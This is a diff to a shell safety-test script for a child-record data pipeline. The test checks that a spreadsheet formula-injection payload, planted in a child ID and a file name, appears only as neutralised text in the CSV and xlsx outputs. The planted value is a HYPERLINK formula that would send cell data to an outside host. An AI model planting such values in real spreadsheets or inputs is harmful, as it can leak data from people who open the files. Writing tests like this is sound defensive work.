@@ -230,5 +230,36 @@ else
 fi
 find "$W" -name 'r.xlsx.tmp*' -type l -delete
 
+# 7. Formula injection: an LA child ID (and a file name) a spreadsheet would
+#    run reach rejects.csv and validation.csv as text ('=...), never as a
+#    live formula; the workbook holds no formula built from input.
+W=$T/w7
+mkdir -p "$W/in"
+sed -e 's|<LAchildID>H1</LAchildID>|<LAchildID>=HYPERLINK("http://x/"\&amp;A1)</LAchildID>|' \
+    -e 's|<CPPendDate>2023-11-20</CPPendDate>|<CPPendDate>2023-11-31</CPPendDate>|' \
+    "$IN/cin-2024.xml" >"$W/in/=cmd.xml"
+(cd "$W/in" && run "$W/w" "=cmd.xml") >"$T/out" 2>&1   # the file name as given
+rc=$?
+live=$(python3 - "$W/w/rejects.csv" "$W/w/validation.csv" "$W/w/tables/sources.csv" <<'PY'
+import csv, sys
+n = 0
+for path in sys.argv[1:]:
+    for row in csv.reader(open(path, newline="")):
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                try:
+                    float(cell)
+                except ValueError:
+                    print(path, cell)
+PY
+)
+seen=$(cat "$W/w/rejects.csv" "$W/w/validation.csv" | grep -c "'=HYPERLINK")
+xml=$(unzip -p "$W/w/report-2024.xlsx" 'xl/worksheets/*.xml' | grep -c '<f>.*HYPERLINK')
+if [ $rc -eq 0 ] && [ -z "$live" ] && [ "$seen" -gt 1 ] && grep -q "^\"'=cmd.xml\",33,cpp,205,\"'=HYPERLINK" "$W/w/rejects.csv" && [ "$xml" -eq 0 ]; then
+    pass "formula injection: $seen cells with the ID as text ('=HYPERLINK...), the file name too, none live"
+else
+    fail "formula injection: exit $rc, live cells '$live', neutralised $seen, workbook formulas $xml"
+fi
+
 echo "safety: $fails failure(s)"
 [ $fails -eq 0 ]
